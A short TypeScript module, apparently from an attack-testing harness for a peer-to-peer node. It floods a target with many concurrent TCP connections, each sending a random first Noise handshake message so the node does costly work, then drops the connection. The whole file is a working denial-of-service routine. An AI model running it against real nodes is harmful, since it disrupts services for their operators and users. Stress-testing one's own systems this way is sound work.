/** The first message of a handshake, for which the node computes its answer, and nothing more. */
import { randomBytes } from 'node:crypto'
import { again, many, pause, tcp, type Behaviour } from '../attack/target.js'
import { select } from '../attack/wire.js'

export const attack: Behaviour = async (target, signal) => many(64, async () => again(signal, async () => {
  const socket = await tcp(target, signal)
  socket.write(Buffer.concat([select('/noise'), Uint8Array.of(0, 32), randomBytes(32)]))
  await pause(50, signal)
  socket.destroy()
}))
